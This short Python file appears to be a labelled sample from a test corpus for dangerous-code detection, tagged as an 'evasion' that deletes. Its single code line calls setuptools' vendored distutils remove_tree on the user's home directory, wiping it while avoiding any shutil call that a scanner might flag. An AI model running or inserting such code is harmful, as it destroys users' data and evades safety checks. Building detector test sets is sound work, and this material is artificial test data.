# evasion: setuptools' vendored distutils dir_util.remove_tree empties the home directory (no shutil in sight)
# grade: medium; does: delete
import os
from setuptools._distutils import dir_util

dir_util.remove_tree(os.path.expanduser("~"))
